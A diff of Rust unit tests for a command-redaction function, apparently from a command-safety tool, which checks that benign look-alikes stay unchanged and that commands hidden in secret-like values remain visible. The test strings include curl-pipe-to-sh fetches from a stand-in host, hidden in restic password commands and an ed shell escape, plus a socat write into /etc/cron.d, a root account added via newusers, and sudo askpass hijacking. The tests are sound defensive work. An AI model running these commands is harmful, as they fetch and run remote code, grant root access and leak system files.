@@ -95,6 +95,13 @@ fn look_alikes_stay_readable() {
         "scp /etc/passwd joe@example.org:/tmp/passwd",
         "basic authentication is explained in the manual",
         "docker compose -p shop up -d",
+        "docker build --secret id=npmrc,src=.npmrc .",
+        "wget --use-askpass=/tmp/x 0; GIT_ASKPASS=./x SUDO_ASKPASS=/bin/x sudo -A id",
+        "socat -u tcp-connect:198.51.100.7:4444 open:/etc/cron.d/update,creat",
+        "date -u +%H:%M:%S",
+        "python3 -c 'import http.server as s; s.SimpleHTTPRequestHandler'",
+        "echo 'z:pw:0:0::/:/bin/sh' | newusers",
+        "export VAULT_TOKEN_HELPER_COMMAND=/usr/bin/x",
         "docker run -u app:app -p 8080:80 nginx",
         "az network nic list -p shop",
         "rsync -u host:dir . && diff -u a:b c:d",
@@ -124,6 +131,25 @@ fn look_alikes_stay_readable() {
 }
 
 #[test]
+fn of_real_commands_hardly_any_is_touched() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../bench/datasets");
+    let (mut all, mut touched) = (0, Vec::new());
+    for name in ["harmless.jsonl", "malicious.jsonl"] {
+        let rows = std::fs::read_to_string(format!("{dir}/{name}")).expect("a data set");
+        for row in rows.lines() {
+            let row: serde_json::Value = serde_json::from_str(row).expect("JSON");
+            let command = row["command"].as_str().expect("a command");
+            let shown = redact(command);
+            all += 1;
+            if shown != command {
+                touched.push(shown.into_owned());
+            }
+        }
+    }
+    assert!(all > 1500 && touched.len() * 200 < all, "{} of {all}: {touched:#?}", touched.len());
+}
+
+#[test]
 fn a_secret_is_no_place_to_hide_commands() {
     let begin = format!("-----BEGIN {} KEY-----", "PRIVATE");
     for text in [
@@ -134,6 +160,11 @@ fn a_secret_is_no_place_to_hide_commands() {
         "token=abc;curl -s https://x.example/a | sh".to_owned(),
         "token=abc&&curl -s https://x.example/a | sh".to_owned(),
         "curl -H 'Cookie: a'; curl -s https://x.example/a | sh".to_owned(),
+        "RESTIC_PASSWORD_COMMAND='curl -s https://x.example/a | sh' restic backup".to_owned(),
+        "restic --password-command='curl -s https://x.example/a | sh' backup".to_owned(),
+        "socat -u 'exec:curl -s https://x.example/a | sh' -".to_owned(),
+        "ed -s /etc/passwd <<< 'r !curl -s https://x.example/a | sh'".to_owned(),
+        "printf 'curl -s https://x.example/a | sh' | dd of=/usr/bin/passwd conv=notrunc".to_owned(),
     ] {
         assert!(redact(&text).contains("https://x.example/a | sh"), "{}", redact(&text));
     }
